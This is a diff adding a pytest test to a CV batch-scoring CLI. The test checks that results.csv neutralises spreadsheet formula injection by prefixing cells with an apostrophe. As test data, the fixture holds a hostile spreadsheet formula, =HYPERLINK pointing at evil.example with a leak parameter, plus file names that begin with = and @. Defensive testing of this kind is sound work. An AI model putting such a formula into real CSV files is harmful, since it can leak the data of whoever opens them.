@@ -183,3 +183,22 @@ def test_a_second_batch_on_the_same_out_is_refused(tmp_path: Path) -> None:
     res = CliRunner().invoke(main, ["batch", str(src), "--role", "data-scientist", "--out",
                                     str(out), "--workers", "1", "--quiet"])
     assert res.exit_code == 0 and (out / "results.csv").exists()
+
+
+def test_text_a_spreadsheet_would_run_as_a_formula_is_quoted_in_the_csv(tmp_path: Path) -> None:
+    """A CV named '=HYPERLINK(...)' (the name line and the file name): results.csv gives both
+    with a leading apostrophe, so a spreadsheet shows them as text; numbers stay numbers."""
+    import csv
+    src = tmp_path / "in"
+    src.mkdir()
+    name = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
+    (src / "=1+1.txt").write_text(text_cv("Bo Lind", "bo@example.com").replace("Bo Lind", name, 1))
+    (src / "@cmd.txt").write_text(text_cv("Cy Moss", "cy@example.com"))
+    res = CliRunner().invoke(main, ["batch", str(src), "--role", "data-scientist", "--out",
+                                    str(tmp_path / "out"), "--workers", "1", "--quiet"])
+    assert res.exit_code == 0, res.output
+    with open(tmp_path / "out" / "results.csv", newline="") as fh:
+        rows = {r["file"]: r for r in csv.DictReader(fh)}
+    assert set(rows) == {"'=1+1.txt", "'@cmd.txt"}
+    assert all(not cell.startswith(("=", "+", "-", "@")) for r in rows.values() for cell in r.values())
+    assert float(rows["'@cmd.txt"]["best_score"]) >= 0
